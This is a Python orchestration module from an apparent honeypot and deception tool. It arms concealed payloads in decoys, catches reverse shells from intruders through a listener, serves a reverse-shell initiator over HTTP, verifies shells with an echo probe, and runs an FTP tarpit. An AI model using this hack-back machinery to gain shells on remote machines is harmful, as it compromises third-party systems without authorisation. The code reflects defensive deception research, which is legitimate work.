"""Orchestration: activation events in, armed payloads and services out.

The manager is the single coordinator of an engagement. Decoys hand it
activation events; it arms payloads, spawns whatever the chosen sabotage
objective needs (reverse-shell listener plus initiator HTTP server, or
the tarpit front-end), verifies a hack-back when one lands, and keeps an
append-only event log. A transparent TCP gateway lets the protected
machine's real services keep working underneath.
"""

from __future__ import annotations

import enum
import json
import logging
import random
import secrets
import socket
import string
import threading
import time
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Callable, Optional

from . import ftp as ftp_mod
from . import tarpit as tarpit_mod
from .payload import (
    ActivationEvent,
    Concealment,
    ConfigError,
    CounterstrikeObjective,
    EventKind,
    Payload,
    TarpitObjective,
    build_payload,
    default_trigger_pool,
    pick_trigger,
    render_initiator,
)

logger = logging.getLogger(__name__)

DEFAULT_PORT_RANGE = (20000, 59999)
SHELL_PROBE_TIMEOUT = 5.0
SHELL_READ_LIMIT = 4096


class PortExhausted(RuntimeError):
    """No free port could be found in the configured range."""


class Outcome(enum.Enum):
    PENDING = "pending"
    COUNTERSTRIKE_VERIFIED = "counterstrike_verified"
    TARPIT_ENGAGED = "tarpit_engaged"
    ATTACKER_ESCAPED = "attacker_escaped"


# Legal forward transitions; the outcome never moves backwards.
_OUTCOME_NEXT = {
    Outcome.PENDING: {Outcome.COUNTERSTRIKE_VERIFIED, Outcome.TARPIT_ENGAGED,
                      Outcome.ATTACKER_ESCAPED},
    Outcome.TARPIT_ENGAGED: {Outcome.COUNTERSTRIKE_VERIFIED, Outcome.ATTACKER_ESCAPED},
    Outcome.COUNTERSTRIKE_VERIFIED: set(),
    Outcome.ATTACKER_ESCAPED: set(),
}


@dataclass(frozen=True)
class ShellVerification:
    probe_command: str
    expected_marker: str
    observed: str
    verified: bool


@dataclass(frozen=True)
class LiveService:
    kind: str  # initiator_http | shell_listener | tarpit_ftp
    port: int
    started_at: float


class EventLog:
    """Append-only, time-ordered engagement log; optionally mirrored to JSONL."""

    def __init__(self, path: str | None = None):
        self.path = path
        self._records: list[dict] = []
        self._lock = threading.Lock()

    def append(self, engagement_id: str, kind: str, detail: dict | None = None) -> dict:
        record = {
            "ts": time.time(),
            "engagement_id": engagement_id,
            "kind": kind,
            "detail": detail or {},
        }
        with self._lock:
            self._records.append(record)
            if self.path:
                with open(self.path, "a", encoding="utf-8") as fh:
                    fh.write(json.dumps(record) + "\n")
        return record

    def records(self, kind: str | None = None) -> list[dict]:
        with self._lock:
            snapshot = list(self._records)
        if kind is None:
            return snapshot
        return [r for r in snapshot if r["kind"] == kind]


def read_event_log(path: str, on_bad_line: Callable[[int, str], None] | None = None) -> list[dict]:
    """Parse a JSONL event log, skipping (and reporting) malformed lines."""
    records = []
    with open(path, encoding="utf-8") as fh:
        for lineno, line in enumerate(fh, 1):
            line = line.strip()
            if not line:
                continue
            try:
                records.append(json.loads(line))
            except json.JSONDecodeError as exc:
                if on_bad_line is not None:
                    on_bad_line(lineno, str(exc))
    records.sort(key=lambda r: r.get("ts", 0.0))
    return records


# ---------------------------------------------------------------------------
# Shell verification
# ---------------------------------------------------------------------------

def verify_shell(conn: socket.socket, timeout: float = SHELL_PROBE_TIMEOUT,
                 marker: str | None = None) -> ShellVerification:
    """Probe an accepted connection with a marker echo to prove it is a shell.

    The probe is side-effect-free on the peer; a silent or mismatching
    peer is treated as a spurious connection.
    """
    marker = marker or secrets.token_hex(8)
    probe = f"echo {marker}"
    observed = b""
    try:
        conn.settimeout(timeout)
        conn.sendall(probe.encode() + b"\n")
        deadline = time.monotonic() + timeout
        while len(observed) < SHELL_READ_LIMIT and marker.encode() not in observed:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                break
            conn.settimeout(remaining)
            chunk = conn.recv(SHELL_READ_LIMIT - len(observed))
            if not chunk:
                break
            observed += chunk
    except OSError:
        pass
    text = observed.decode("utf-8", errors="replace")
    return ShellVerification(probe, marker, text, marker in text)


class ShellListener:
    """Reverse-shell catcher: accepts connections and runs verification."""

    def __init__(self, host: str, port: int,
                 on_result: Callable[[ShellVerification, str], None]):
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._sock.bind((host, port))
        self.port = self._sock.getsockname()[1]
        self.on_result = on_result
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None

    def start(self) -> "ShellListener":
        self._sock.listen(4)
        self._sock.settimeout(0.2)
        self._thread = threading.Thread(target=self._loop, name="shell-listener", daemon=True)
        self._thread.start()
        return self

    def _loop(self) -> None:
        while not self._stop.is_set():
            try:
                conn, addr = self._sock.accept()
            except socket.timeout:
                continue
            except OSError:
                break
            try:
                result = verify_shell(conn)
            finally:
                try:
                    conn.close()
                except OSError:
                    pass
            self.on_result(result, f"{addr[0]}:{addr[1]}")
            if result.verified:
                break

    def stop(self) -> None:
        self._stop.set()
        try:
            self._sock.close()
        except OSError:
            pass
        if self._thread is not None:
            self._thread.join(timeout=2.0)


# ---------------------------------------------------------------------------
# Initiator HTTP server
# ---------------------------------------------------------------------------

class InitiatorHttpServer:
    """One-shot plain-text server handing out the reverse-shell initiator.

    Any GET gets the initiator body; the server retires itself a grace
    period after the first successful fetch so the command is not left
    lying around.
    """

    def __init__(self, host: str, port: int, objective: CounterstrikeObjective,
                 grace: float = 1.0):
        body = render_initiator(objective).encode()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"

            def log_message(self, fmt, *args):
                logger.debug("initiator " + fmt, *args)

            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
                outer._schedule_retirement()

            def _refuse(self) -> None:
                self.send_response(405)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = _refuse
            do_PUT = _refuse
            do_DELETE = _refuse
            do_HEAD = _refuse

        self._server = ThreadingHTTPServer((host, port), Handler)
        self._server.daemon_threads = True
        self.port = self._server.server_address[1]
        self.grace = grace
        self._retiring = False
        self._lock = threading.Lock()
        self._thread: threading.Thread | None = None

    def _schedule_retirement(self) -> None:
        with self._lock:
            if self._retiring:
                return
            self._retiring = True
        timer = threading.Timer(self.grace, self.stop)
        timer.daemon = True
        timer.start()

    def start(self) -> "InitiatorHttpServer":
        self._thread = threading.Thread(target=self._server.serve_forever,
                                        name="initiator-http", daemon=True)
        self._thread.start()
        return self

    def stop(self) -> None:
        try:
            self._server.shutdown()
            self._server.server_close()
        except OSError:
            pass
        if self._thread is not None and self._thread is not threading.current_thread():
            self._thread.join(timeout=2.0)


# ---------------------------------------------------------------------------
# Transparent gateway
# ---------------------------------------------------------------------------

class GatewayRelay:
    """Unmodified bidirectional TCP relay in front of a real upstream service."""

    def __init__(self, listen_host: str, listen_port: int,
                 upstream_host: str, upstream_port: int,
                 log: EventLog | None = None, engagement_id: str = "gateway"):
        self.upstream = (upstream_host, upstream_port)
        self.log = log
        self.engagement_id = engagement_id
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._sock.bind((listen_host, listen_port))
        self.port = self._sock.getsockname()[1]
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None

    def start(self) -> "GatewayRelay":
        self._sock.listen(16)
        self._sock.settimeout(0.2)
        self._thread = threading.Thread(target=self._accept_loop, name="gateway", daemon=True)
        self._thread.start()
        return self

    def _accept_loop(self) -> None:
        while not self._stop.is_set():
            try:
                client, addr = self._sock.accept()
            except socket.timeout:
                continue
            except OSError:
                break
            threading.Thread(target=self._relay, args=(client, addr), daemon=True).start()

    def _relay(self, client: socket.socket, addr) -> None:
        peer = f"{addr[0]}:{addr[1]}"
        try:
            upstream = socket.create_connection(self.upstream, timeout=5.0)
        except OSError as exc:
            client.close()
            if self.log:
                self.log.append(self.engagement_id, "gateway_upstream_down",
                                {"peer": peer, "upstream": f"{self.upstream[0]}:{self.upstream[1]}",
                                 "error": str(exc)})
            return
        counters = {"client_to_upstream": 0, "upstream_to_client": 0}

        def pump(src: socket.socket, dst: socket.socket, key: str) -> None:
            try:
                while True:
                    chunk = src.recv(65536)
                    if not chunk:
                        break
                    dst.sendall(chunk)
                    counters[key] += len(chunk)
            except OSError:
                pass
            finally:
                # Propagate the half-close; the opposite pump drains on its own.
                try:
                    dst.shutdown(socket.SHUT_WR)
                except OSError:
                    pass
                try:
                    src.shutdown(socket.SHUT_RD)
                except OSError:
                    pass

        threads = [
            threading.Thread(target=pump, args=(client, upstream, "client_to_upstream"), daemon=True),
            threading.Thread(target=pump, args=(upstream, client, "upstream_to_client"), daemon=True),
        ]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        for s in (client, upstream):
            try:
                s.close()
            except OSError:
                pass
        if self.log:
            self.log.append(self.engagement_id, "gateway_close",
                            {"peer": peer, **counters})

    def stop(self) -> None:
        self._stop.set()
        try:
            self._sock.close()
        except OSError:
            pass
        if self._thread is not None:
            self._thread.join(timeout=2.0)


# ---------------------------------------------------------------------------
# The injection manager
# ---------------------------------------------------------------------------

def _generate_tarpit_user(rng: random.Random) -> str:
    alphabet = string.ascii_lowercase + string.digits + "_"
    return rng.choice(string.ascii_lowercase) + "".join(rng.choice(alphabet) for _ in range(7))


class InjectionManager:
    """Serialized coordinator for one engagement.

    All state changes go through one lock; decoys, listeners, and relays
    run on their own threads and talk to the manager only through
    ``on_activation`` and service callbacks. With no activation events it
    starts nothing and emits nothing, so benign traffic sees a vanilla
    system.
    """

    def __init__(self, objective_kind: str, *,
                 host: str = "127.0.0.1",
                 target_addr: str | None = None,
                 port_range: tuple[int, int] = DEFAULT_PORT_RANGE,
                 trigger_pool=None,
                 rng_seed: int = 0,
                 log: EventLog | None = None,
                 engagement_id: str | None = None,
                 tarpit_config: tarpit_mod.TarpitConfig | None = None,
                 initiator_grace: float = 1.0,
                 data_port_allocator: Callable[[], int] | None = None):
        if objective_kind not in ("counterstrike", "tarpit"):
            raise ConfigError(f"unknown sabotage objective: {objective_kind!r}")
        self.objective_kind = objective_kind
        self.host = host
        self.target_addr = target_addr or host
        self.port_range = port_range
        self.trigger_pool = trigger_pool or default_trigger_pool()
        self.log = log or EventLog()
        self.engagement_id = engagement_id or f"eng-{secrets.token_hex(4)}"
        self.initiator_grace = initiator_grace
        self._rng = random.Random(rng_seed)
        self._lock = threading.RLock()
        self._outcome = Outcome.PENDING
        self._concealments: dict[str, Concealment] = {}
        self.armed_decoys: dict[str, Payload] = {}
        self._session_payloads: dict[tuple[str, str], Payload] = {}
        self.live_services: list[LiveService] = []
        self._objective = None
        self._listener: ShellListener | None = None
        self._initiator: InitiatorHttpServer | None = None
        self._tarpit_server: ftp_mod.FtpServer | None = None
        self._tarpit_config = tarpit_config or tarpit_mod.TarpitConfig(seed=rng_seed)
        self._data_port_allocator = data_port_allocator

    # -- wiring --------------------------------------------------------------

    def register_decoy(self, decoy_id: str, concealment: Concealment) -> None:
        with self._lock:
            self._concealments[decoy_id] = concealment

    def provider_for(self, decoy_id: str, concealment: Concealment) -> Callable:
        self.register_decoy(decoy_id, concealment)
        return self.on_activation

    def armed_payload(self, decoy_id: str) -> Optional[Payload]:
        with self._lock:
            return self.armed_decoys.get(decoy_id)

    @property
    def outcome(self) -> Outcome:
        with self._lock:
            return self._outcome

    @property
    def objective(self):
        with self._lock:
            return self._objective

    def _set_outcome(self, new: Outcome) -> bool:
        with self._lock:
            if new in _OUTCOME_NEXT[self._outcome]:
                self._outcome = new
                self.log.append(self.engagement_id, "outcome",
                                {"outcome": new.value})
                return True
            return False

    def mark_escaped(self) -> None:
        self._set_outcome(Outcome.ATTACKER_ESCAPED)

    # -- ports ----------------------------------------------------------------

    def _try_start(self, builder: Callable[[int], object], exclude: set[int]) -> object:
        """Draw seeded ports from the range until the builder binds one."""
        lo, hi = self.port_range
        for _ in range(64):
            port = self._rng.randrange(lo, hi + 1)
            if port in exclude:
                continue
            try:
                return builder(port)
            except OSError:
                continue
        raise PortExhausted(f"no free port in {lo}..{hi}")

    # -- activation -------------------------------------------------------------

    def on_activation(self, event: ActivationEvent) -> Optional[Payload]:
        """Arm (or re-arm) a decoy in response to an activation event.

        Repeat events for the same session return the identical payload.
        On resource exhaustion the decoy is told to answer bare: fail-open
        honeypot behavior, never degraded service.
        """
        with self._lock:
            self.log.append(self.engagement_id, "activation", {
                "decoy_id": event.decoy_id,
                "session_id": event.session_id,
                "event": event.kind.value,
                "peer": event.peer_addr,
            })
            if event.kind is EventKind.TARPIT_LISTING:
                self._set_outcome(Outcome.TARPIT_ENGAGED)
                return None
            key = (event.decoy_id, event.session_id)
            if key in self._session_payloads:
                return self._session_payloads[key]
            try:
                objective = self._ensure_services()
            except PortExhausted as exc:
                self.log.append(self.engagement_id, "payload_skipped",
                                {"reason": str(exc), "decoy_id": event.decoy_id})
                return None
            concealment = self._concealments.get(event.decoy_id, Concealment.ANSI)
            trigger = pick_trigger(self.trigger_pool, self._rng.getrandbits(63))
            payload = build_payload(objective, trigger, concealment)
            self._session_payloads[key] = payload
            self.armed_decoys[event.decoy_id] = payload
            self.log.append(self.engagement_id, "payload_armed", {
                "decoy_id": event.decoy_id,
                "session_id": event.session_id,
                "objective": objective.kind,
                "concealment": concealment.value,
            })
            return payload

    def _ensure_services(self):
        if self._objective is not None:
            return self._objective
        if self.objective_kind == "counterstrike":
            listener = self._try_start(
                lambda p: ShellListener(self.host, p, self._on_shell_result).start(),
                exclude=set())
            try:
                objective = None

                def build_initiator(port: int) -> InitiatorHttpServer:
                    obj = CounterstrikeObjective(self.target_addr, listener.port, port)
                    server = InitiatorHttpServer(self.host, port, obj,
                                                 grace=self.initiator_grace).start()
                    nonlocal objective
                    objective = obj
                    return server

                initiator = self._try_start(build_initiator, exclude={listener.port})
            except PortExhausted:
                listener.stop()
                raise
            self._listener = listener
            self._initiator = initiator
            self._objective = objective
            now = time.time()
            self.live_services.append(LiveService("shell_listener", listener.port, now))
            self.live_services.append(LiveService("initiator_http", initiator.port, now))
            self.log.append(self.engagement_id, "service_started",
                            {"kind": "shell_listener", "port": listener.port})
            self.log.append(self.engagement_id, "service_started",
                            {"kind": "initiator_http", "port": initiator.port})
        else:
            cfg = self._tarpit_config
            username = cfg.username or _generate_tarpit_user(self._rng)

            def build_tarpit(port: int) -> ftp_mod.FtpServer:
                nonlocal cfg
                bound = tarpit_mod.TarpitConfig(
                    seed=cfg.seed, branching=cfg.branching, name_pool=cfg.name_pool,
                    port=port, username=username, reinject_text=cfg.reinject_text,
                    fake_files=cfg.fake_files)
                server = ftp_mod.FtpServer(
                    self.host, port,
                    backend_factory=lambda: ftp_mod.TarpitFtpBackend(
                        bound, event_sink=self.on_activation),
                    name="tarpit",
                    data_port_allocator=self._data_port_allocator).start()
                cfg = bound
                return server

            if cfg.port:
                server = build_tarpit(cfg.port)
            else:
                server = self._try_start(build_tarpit, exclude=set())
            self._tarpit_server = server
            self._tarpit_config = cfg
            self._objective = TarpitObjective(server.port, username,
                                              branching=cfg.branching, seed=cfg.seed)
            self.live_services.append(LiveService("tarpit_ftp", server.port, time.time()))
            self.log.append(self.engagement_id, "service_started",
                            {"kind": "tarpit_ftp", "port": server.port})
        return self._objective

    def _on_shell_result(self, result: ShellVerification, peer: str) -> None:
        if not result.verified:
            self.log.append(self.engagement_id, "shell_probe_failed", {"peer": peer})
            return
        if self._set_outcome(Outcome.COUNTERSTRIKE_VERIFIED):
            # Operator alert: a human takes over from here, nothing automated.
            self.log.append(self.engagement_id, "hackback_verified", {
                "peer": peer,
                "probe": result.probe_command,
                "marker": result.expected_marker,
            })

    # -- teardown -----------------------------------------------------------------

    def shutdown(self) -> None:
        with self._lock:
            services = [self._listener, self._initiator, self._tarpit_server]
            self._listener = self._initiator = self._tarpit_server = None
            self.live_services.clear()
        for svc in services:
            if svc is not None:
                try:
                    svc.stop()
                except Exception:
                    logger.debug("service shutdown error", exc_info=True)
        self.log.append(self.engagement_id, "manager_stopped", {})
